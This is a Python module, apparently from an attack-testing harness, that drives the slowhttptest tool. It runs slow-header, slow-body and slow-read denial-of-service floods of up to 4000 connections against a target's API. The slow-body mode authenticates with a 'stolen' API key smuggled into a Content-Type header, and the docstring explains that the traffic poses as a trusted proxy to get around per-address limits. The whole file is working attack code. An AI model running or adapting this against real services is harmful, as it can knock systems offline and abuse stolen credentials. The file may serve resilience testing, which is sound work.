"""slowhttptest's three ways to be slow, all from one address that stands for a trusted proxy.

So the bound for one address does not help: what is left is the bound of the process.
"""

import shutil
import subprocess
from collections.abc import Iterator, Sequence

from attack.base import Missing, Row
from attack.measured import struck
from attack.target import Target

MOST = 4000
INSTALL = "slowhttptest is not installed: apt-get install slowhttptest"


def headers(target: Target) -> Row:
    """-H: heads that never end."""
    return _slow("slowhttptest -H", target, "-H", "-u", target.base)


def body(target: Target) -> Row:
    """-B: bodies that never end, by one who has a key."""
    kind = f"application/json\r\nX-API-Key: {target.stolen}"
    url = f"{target.base}/api/v1/appointments"
    return _slow("slowhttptest -B", target, "-B", "-s", "60000", "-f", kind, "-u", url)


def reading(target: Target) -> Row:
    """-X: answers taken byte by byte."""
    url = f"{target.base}/api/v1/openapi.json"
    words = ["-w", "1", "-y", "64", "-n", "2", "-z", "8", "-k", "10"]
    return _slow("slowhttptest -X", target, "-X", *words, "-u", url)


def _slow(name: str, target: Target, *words: str) -> Row:
    program = shutil.which("slowhttptest")
    if program is None:
        raise Missing(INSTALL)

    def strike(target: Target) -> Iterator[str]:
        connections = min(target.connections, MOST)
        subprocess.run(_command(program, connections, target.seconds, words), check=True)
        yield f"{connections} connections"

    return struck(name, target, strike)


def _command(program: str, connections: int, seconds: float, words: Sequence[str]) -> Sequence[str]:
    rate = max(1, connections // 4)
    return [
        *(program, "-v", "0", "-c", str(connections), "-r", str(rate), "-i", "2", "-x", "24"),
        *("-l", str(max(1, round(seconds))), "-p", "3"),
        *words,
    ]
